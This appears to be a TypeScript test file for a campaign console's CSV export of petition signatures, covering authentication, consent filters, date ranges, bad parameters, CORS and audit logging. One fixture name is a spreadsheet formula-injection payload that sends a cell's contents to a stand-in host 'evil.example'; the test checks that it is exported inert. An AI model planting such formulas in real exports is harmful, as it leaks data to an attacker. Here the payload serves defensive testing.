/**
 * The console's CSV export (SPEC §10, issue 15): GET /api/console/campaigns/:id/signatures.csv
 * behind an organiser's session; consenting signers only unless `signers=all`; a range of UTC
 * days by when the receiver got each signature; the token export's columns, letter statuses and
 * formula neutralising. A real receiver and its SQLite file; the receive times are set in the
 * file after posting, so the days are known.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { CSV_COLUMNS } from '../src/csv-export.ts';
import { csvRecords, parseCsv, postJson, signature, startServer, type TestServer } from './helpers.ts';
import { ADMIN_TOKEN, campaignBody, putCampaign } from './support/admin.ts';
import { addOrganiser, cookiePair, login, ORGANISER, PASSWORD } from './support/console.ts';

const CAMPAIGN = 'console-export';

/** Who signs, whether they agreed to hear more (undefined: the form did not ask), and when the receiver got it. */
const SIGNERS = [
  { email: 'a.consenting@example.org', consent: true, receivedAt: '2026-03-01T10:00:00.000Z', firstName: 'Asel' },
  { email: 'b.declined@example.org', consent: false, receivedAt: '2026-03-01T23:59:59.999Z', firstName: 'Bolat' },
  { email: 'c.not-asked@example.org', consent: undefined, receivedAt: '2026-03-02T00:00:00.000Z', firstName: 'Chingiz' },
  { email: 'd.consenting@example.org', consent: true, receivedAt: '2026-03-03T12:00:00.000Z', firstName: 'Dana' },
  { email: 'e.formula@example.org', consent: true, receivedAt: '2026-03-02T08:00:00.000Z', firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
] as const;

const firstNameOf = (email: string) => SIGNERS.find((signer) => signer.email === email)!.firstName;

describe('the console export', () => {
  let server: TestServer;
  let cookie: string;

  const exportCsv = async (query = '', headers: Record<string, string> = { cookie }, id = CAMPAIGN) => {
    const response = await fetch(`${server.url}/api/console/campaigns/${id}/signatures.csv${query}`, { headers });
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
    return { status: response.status, headers: response.headers, text };
  };
  const emails = (text: string) => csvRecords(text).map((row) => row.email).sort();

  before(async () => {
    server = await startServer({ ADMIN_TOKEN }, {}, []);
    // Letters queued (no SMTP_URL): each signature has a status per target.
    await putCampaign(server.url, CAMPAIGN, campaignBody(CAMPAIGN));
    await putCampaign(server.url, 'console-export-other', campaignBody('console-export-other', { mode: 'off', targets: [] }));
    for (const signer of SIGNERS) {
      const consent = signer.consent === undefined ? undefined : { updates: signer.consent, text: 'Keep me informed.' };
      const payload = signature({ campaign: CAMPAIGN, locale: 'en', consent }, { email: signer.email, firstName: signer.firstName });
      if (consent === undefined) delete (payload as { consent?: unknown }).consent;
      assert.equal((await postJson(server.url, payload)).status, 201);
    }
    assert.equal((await postJson(server.url, signature({ campaign: 'console-export-other' }, { email: 'elsewhere@example.org' }))).status, 201);
    for (const signer of SIGNERS) await server.query('UPDATE signatures SET received_at = ? WHERE email = ?', [signer.receivedAt, signer.email]);
    await addOrganiser(server);
    cookie = cookiePair((await login(server.url, ORGANISER, PASSWORD)).setCookies);
  });
  after(async () => server?.close());

  test('without a session: 401 and no data; a forged cookie too', async () => {
    for (const headers of [{}, { cookie: 'appeal_session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' }] as Record<string, string>[]) {
      const answer = await exportCsv('?signers=all', headers);
      assert.equal(answer.status, 401);
      assert.doesNotMatch(answer.text, /example\.org|Asel/);
      assert.match(answer.headers.get('content-type') ?? '', /application\/json/);
    }
  });

  test('by default only consenting signers, with the export\'s columns and the letter statuses', async () => {
    const answer = await exportCsv();
    assert.equal(answer.status, 200);
    assert.match(answer.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.equal(answer.headers.get('content-disposition'), `attachment; filename="${CAMPAIGN}-signatures-consenting.csv"`);
    assert.equal(answer.headers.get('cache-control'), 'no-store');
    assert.ok(answer.text.startsWith('\uFEFF'), 'a BOM, as the token export');
    assert.deepEqual(parseCsv(answer.text)[0], [...CSV_COLUMNS]);
    assert.deepEqual(emails(answer.text), ['a.consenting@example.org', 'd.consenting@example.org', 'e.formula@example.org']);
    for (const row of csvRecords(answer.text)) {
      assert.equal(row.consent_updates, 'yes');
      assert.deepEqual(row.letter_status!.split('; ').sort(), ['Minister of Justice: queued', 'Prosecutor General: queued']);
      assert.equal(row.letter_sent_at, '');
    }
    assert.equal(answer.text, (await exportCsv('?signers=consenting')).text);
  });

  test('signers=all: everyone, those who declined or were not asked too; no other campaign', async () => {
    const answer = await exportCsv('?signers=all');
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get('content-disposition'), `attachment; filename="${CAMPAIGN}-signatures-all.csv"`);
    assert.deepEqual(emails(answer.text), SIGNERS.map((signer) => signer.email).sort());
    const byEmail = Object.fromEntries(csvRecords(answer.text).map((row) => [row.email, row]));
    assert.equal(byEmail['b.declined@example.org']!.consent_updates, 'no');
    assert.equal(byEmail['c.not-asked@example.org']!.consent_updates, '');
    assert.doesNotMatch(answer.text, /elsewhere@example\.org/);
  });

  test('a range of UTC days, both ends included, by when the receiver got the signature', async () => {
    const cases: [string, string[]][] = [
      ['?signers=all&from=2026-03-01&to=2026-03-01', ['a.consenting@example.org', 'b.declined@example.org']],
      ['?signers=all&from=2026-03-02', ['c.not-asked@example.org', 'd.consenting@example.org', 'e.formula@example.org']],
      ['?to=2026-03-02', ['a.consenting@example.org', 'e.formula@example.org']],
      ['?signers=all&from=2026-03-02&to=2026-03-02', ['c.not-asked@example.org', 'e.formula@example.org']],
      ['?from=2026-03-04', []],
      ['?signers=all&from=2020-01-01&to=2030-12-31', SIGNERS.map((signer) => signer.email).sort()],
    ];
    for (const [query, expected] of cases) {
      const answer = await exportCsv(query);
      assert.equal(answer.status, 200, query);
      assert.deepEqual(emails(answer.text), expected, query);
      assert.deepEqual(parseCsv(answer.text)[0], [...CSV_COLUMNS], `${query}: the header even when empty`);
    }
    const named = await exportCsv('?signers=all&from=2026-03-01&to=2026-03-02');
    assert.equal(named.headers.get('content-disposition'), `attachment; filename="${CAMPAIGN}-signatures-all-from-2026-03-01-to-2026-03-02.csv"`);
  });

  test('bad parameters: 400 with the reason, and no data', async () => {
    const cases: [string, RegExp][] = [
      ['?signers=some', /"signers"/],
      ['?signers=all&signers=consenting', /"signers"/],
      ['?from=2026-02-30', /"from"/],
      ['?from=20260301', /"from"/],
      ['?from=2026-3-1', /"from"/],
      ['?to=yesterday', /"to"/],
      ['?to=2026-03-01&to=2026-03-02', /"to"/],
      ['?from=2026-03-02&to=2026-03-01', /after/],
      ['?from=%3Cscript%3E', /"from"/],
    ];
    for (const [query, reason] of cases) {
      const answer = await exportCsv(query);
      assert.equal(answer.status, 400, query);
      const body = JSON.parse(answer.text) as { error: string; message: string };
      assert.equal(body.error, 'bad-request');
      assert.match(body.message, reason, query);
      assert.doesNotMatch(answer.text, /example\.org/);
    }
    assert.equal((await exportCsv('', { cookie }, 'Not_A_Campaign')).status, 400);
    const unknown = await exportCsv('', { cookie }, 'no-such-campaign');
    assert.equal(unknown.status, 404);
    assert.equal(JSON.parse(unknown.text).error, 'unknown-campaign');
  });

  test('formula-looking cells come out inert, as in the token export', async () => {
    const row = csvRecords((await exportCsv()).text).find((record) => record.email === 'e.formula@example.org')!;
    assert.equal(row.first_name, `'${firstNameOf('e.formula@example.org')}`);
  });

  test('no CORS: another origin cannot read it even with the cookie', async () => {
    const answer = await exportCsv('', { cookie, origin: 'https://evil.example' });
    assert.equal(answer.headers.get('access-control-allow-origin'), null);
  });

  test('each export is in the audit log: who, which campaign, which signers and days; no rows', async () => {
    const rows = await server.query<{ actor: string; campaign: string; detail_json: string }>("SELECT actor, campaign, detail_json FROM console_log WHERE action = 'signatures-exported' ORDER BY seq");
    assert.ok(rows.length >= 10);
    assert.ok(rows.every((row) => row.actor === ORGANISER && row.campaign === CAMPAIGN));
    assert.deepEqual(JSON.parse(rows[0]!.detail_json), { signers: 'consenting' });
    assert.ok(rows.some((row) => JSON.stringify(JSON.parse(row.detail_json)) === JSON.stringify({ signers: 'all', from: '2026-03-01', to: '2026-03-01' })));
    assert.doesNotMatch(JSON.stringify(rows), /example\.org/);
  });
});
